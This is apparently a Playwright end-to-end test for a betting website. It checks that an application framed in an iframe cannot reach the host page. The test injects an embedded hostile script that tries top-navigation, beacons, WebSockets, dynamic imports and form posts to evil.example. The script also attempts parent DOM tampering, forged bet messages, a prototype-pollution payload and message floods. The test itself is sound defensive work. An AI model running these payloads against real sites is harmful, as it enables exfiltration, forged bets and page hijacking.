import type { Page } from '@playwright/test';
import { expect, open, test } from '../../support/browser/e2e-test.ts';
import { listedGames } from '../../support/browser/site-pages.ts';
import type { SiteUnderTest } from '../../support/browser/site-under-test.ts';

/** Everything that an application may try against the page around it; each notes what it came to. */
const HOSTILE = `
const came = [];
const attempt = async (name, run) => { try { await run(); came.push(name); } catch { /* refused */ } };
const forge = { v: 1, app: 'betting', id: 'x', type: 'couponAddBet', payload: {} };
async function attack(port) {
  await attempt('cookie', () => { document.cookie = 'a=1'; if (!document.cookie.includes('a=1')) throw 0; });
  await attempt('storage', () => localStorage.setItem('a', '1'));
  await attempt('session storage', () => sessionStorage.setItem('a', '1'));
  await attempt('database', () => new Promise((ok, no) => { const r = indexedDB.open('a'); r.onsuccess = ok; r.onerror = no; }));
  await attempt('cache', () => caches.open('a'));
  await attempt('parent document', () => parent.document.body.remove());
  await attempt('parent global', () => { parent.__pwn = 1; });
  await attempt('top address', () => { top.location = 'https://evil.example/'; });
  await attempt('top script', () => { top.location.href = 'javascript:__pwn=1'; });
  await attempt('own element', () => { frameElement.remove(); });
  await attempt('popup', () => { if (open('https://evil.example/') === null) throw 0; });
  await attempt('fetch', () => fetch(location.href));
  await attempt('beacon', () => { if (!navigator.sendBeacon('https://evil.example/')) throw 0; throw 0; });
  await attempt('socket', () => new Promise((ok, no) => { const s = new WebSocket('wss://evil.example/'); s.onopen = ok; s.onerror = no; }));
  await attempt('worker', () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = ok; w.onerror = no; }));
  await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
  await attempt('import', () => import('https://evil.example/x.js'));
  await attempt('eval', () => eval('1'));
  await attempt('dialogs', () => { if (confirm('x') === false) throw 0; });
  await attempt('locks', () => navigator.locks.request('placing', () => 1));
  await attempt('channel', () => { const c = new BroadcastChannel('session'); c.postMessage('signed-out'); c.close(); throw 0; });
  const form = document.createElement('form');
  form.action = 'https://evil.example/'; form.target = '_top'; form.method = 'post';
  document.body.append(form); form.submit();
  history.pushState = history.pushState || (() => 0);
  for (let n = 0; n < 200; n += 1) { try { history.pushState(n, ''); } catch { /* refused */ } }
  for (const target of [parent, top]) target.postMessage(JSON.stringify(forge), '*');
  parent.postMessage({ type: 'couponAddBet', payload: BET }, '*');
  const say = (type, payload) => port.postMessage(JSON.stringify({ v: 1, app: 'betting', id: 'f', type, payload }));
  say('couponAddBet', BET);
  say('navigate', { route: 'office-menu' });
  say('navigate', { route: 'https://evil.example/' });
  say('openDialog', { dialog: 'login' });
  say('openDialog', { dialog: '__proto__' });
  say('notify', { text: 'PWNED' });
  say('resize', { height: 1e9 });
  port.postMessage({ v: 1, app: 'betting', id: 'f', type: 'navigate', payload: { route: 'home' } });
  port.postMessage('{"__proto__":{"isSignedIn":true}}');
  port.postMessage('x'.repeat(2e6));
  for (let n = 0; n < 5000; n += 1) say('couponAddBet', BET);
  const field = document.createElement('input');
  document.body.append(field);
  for (let n = 0; n < 20; n += 1) { field.focus(); window.focus(); await new Promise((ok) => setTimeout(ok, 20)); }
  document.title = 'came:' + JSON.stringify(came);
}
addEventListener('message', ({ source, ports }) => {
  if (source !== parent || ports.length !== 1) return;
  const [port] = ports;
  port.start();
  port.postMessage(JSON.stringify({ v: 1, app: 'betting', id: 'r', type: 'ready', payload: {} }));
  setTimeout(() => void attack(port), 200);
});`;

async function gamePath(site: SiteUnderTest): Promise<string> {
  const [game] = await listedGames(site, 'line');
  return `/ru/line/football/${String(game!.champId)}/${String(game!.id)}`;
}

const picks = (page: Page) => page.frameLocator('iframe[title="Фавориты дня"]');

test('an application in a frame puts its picks into the coupon, and hears of it [FRM-9, FRM-11, BUS-7]', async ({
  site,
  page,
}) => {
  await open(page, await gamePath(site));
  const pick = picks(page).getByRole('button').first();
  await pick.click();
  await expect(pick).toHaveAttribute('aria-pressed', 'true');
  const stored = await page.evaluate(() => Object.values(localStorage).join());
  expect(stored).toContain('"source":"picks"');
});

test('a hostile application in a frame reaches nothing of the page around it [FRM-6, FRM-11, FRM-12, SEC-12, SEC-14]', async ({
  site,
  page,
  problems,
}) => {
  problems.expect(/evil\.example|mf-betting|sandbox|Failed to load resource|Content Security Policy|127\.0\.0\.1/i);
  const path = await gamePath(site);
  await page.route('**/mf-betting/**', async (route) => {
    const reply = await route.fetch();
    const text = await reply.text();
    const [, game, outcome] = /data-game="(\d+)" data-outcome="([^"]+)"/.exec(text) ?? [];
    const bet = JSON.stringify({ market: { outcomeId: outcome }, game: { gameId: Number(game) }, source: 'evil' });
    const nonce = /script nonce="([^"]+)"/.exec(text)?.[1] ?? '';
    const body = `<!doctype html><title>x</title><script nonce="${nonce}">const BET = ${bet};${HOSTILE}</script>`;
    await route.fulfill({ response: reply, body });
  });
  await open(page, path);
  const search = page.getByRole('searchbox').or(page.getByRole('combobox')).first();
  await search.focus();
  const title = async () =>
    page
      .frames()
      .find((each) => each.url().includes('/mf-betting/'))
      ?.title();
  await expect.poll(title, { timeout: 12_000 }).toMatch(/^came:/);
  expect(await title()).toBe('came:[]');
  await expect(search).toBeFocused();
  const after = await page.evaluate(() => ({
    pwned: '__pwn' in window || 'isSignedIn' in Object.prototype,
    cookie: document.cookie.includes('a=1'),
    stored: Object.values(localStorage).join(),
    path: location.pathname,
  }));
  expect(after).toMatchObject({ pwned: false, cookie: false, path });
  expect(after.stored).not.toContain('"source":"evil"');
  await expect(page.getByText('PWNED')).toHaveCount(0);
  await expect(page.locator('dialog[open]')).toHaveCount(0);
  // the neighbours live
  await page.locator('main').getByRole('button', { pressed: false }).first().click();
  expect(page.context().pages()).toHaveLength(1);
});
